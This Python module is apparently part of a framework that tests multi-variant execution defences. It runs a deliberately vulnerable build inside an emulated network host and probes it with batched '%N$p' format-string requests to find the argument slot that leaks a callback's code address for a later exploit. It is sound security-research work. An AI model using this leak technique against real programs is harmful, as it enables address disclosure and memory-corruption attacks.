"""The attacker's homework: studying the target variant's build natively.

A format-string exploit needs to know which argument slot holds a code
pointer in the build it attacks. Attackers find that out on a copy of the
binary; so does :func:`leak_slot`: it runs the build natively, inside one
host of the run's emulated network (so the vulnerable program listens on
nothing real), asks it over that host's loopback for ``%1$p|%2$p|...`` and
picks the slot that holds the address of the program's callback
(:data:`CALLBACK`, which ``greet`` keeps in a local), computed from the
build's symbols and its load address in ``/proc/PID/maps``. That slot is a
property of the build (its code and frame layout), not of one run, so it
holds in the attacked variant under MVX; it is cached beside the build.

Why not the first slot that merely points into the image: the stack below
``greet``'s frame also holds leftovers of earlier calls (return addresses of
whatever ran there before), and which leftovers sit where depends on the
requests served so far. Such a slot can print a code pointer during the
study and ``(nil)`` in the attack (seen on this project's CI machine).
"""

from __future__ import annotations

import socket
import subprocess
import time
from pathlib import Path
from typing import TYPE_CHECKING

from realmode.net import netns
from realmode.vuln.exploits import absolute_address, image_range, request_path

if TYPE_CHECKING:
    from realmode.net.network import EmulatedNetwork

#: The function whose address ``greet`` keeps on its stack (format_string.c).
CALLBACK = "finish"
#: Slots asked per request, and the last slot looked at.
_BATCH = 40
_MAX_SLOT = 400


#: The port the studied program listens on (inside its host: nothing else there).
_PORT = 8099


def _get(port: int, path: bytes, timeout: float = 5.0) -> bytes:
    with socket.create_connection(("127.0.0.1", port), timeout=timeout) as sock:
        sock.sendall(b"GET " + path + b" HTTP/1.0\r\n\r\n")
        answer = b""
        while chunk := sock.recv(65536):
            answer += chunk
    return answer


def leak_slot(binary: str, net: EmulatedNetwork, host: str) -> int:
    """The ``%N$p`` slot that prints the address of :data:`CALLBACK` in
    ``binary``, found by running it on ``host`` of the started network ``net``."""
    cache = Path(binary + ".callback-slot")
    if cache.is_file() and cache.stat().st_mtime >= Path(binary).stat().st_mtime:
        return int(cache.read_text())
    batches = _MAX_SLOT // _BATCH
    server = net.popen(
        host, [binary, str(_PORT), str(batches + 1), "-"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
    )
    try:
        with netns.inside(net.node_pid(host)):
            deadline = time.monotonic() + 5.0
            while True:  # the first connection only checks that it listens
                try:
                    socket.create_connection(("127.0.0.1", _PORT), timeout=1.0).close()
                    break
                except ConnectionRefusedError:
                    if time.monotonic() > deadline or server.poll() is not None:
                        raise RuntimeError(f"{binary} did not start listening for the study") from None
                    time.sleep(0.01)
            wanted = absolute_address(binary, CALLBACK, image_range(server.pid, binary)[0])
            for first in range(1, _MAX_SLOT, _BATCH):
                probe = "|".join(f"%{n}$p" for n in range(first, first + _BATCH)).encode()
                body = _get(_PORT, request_path(probe)).partition(b"\r\n\r\n")[2].removeprefix(b"hello ")
                for offset, text in enumerate(body.split(b"|")):
                    try:
                        value = int(text, 16)
                    except ValueError:
                        continue
                    if value == wanted:
                        slot = first + offset
                        cache.write_text(str(slot))
                        return slot
    finally:
        server.kill()
        server.wait()
    raise LookupError(f"{binary}: no argument slot up to {_MAX_SLOT} holds the address of {CALLBACK}")
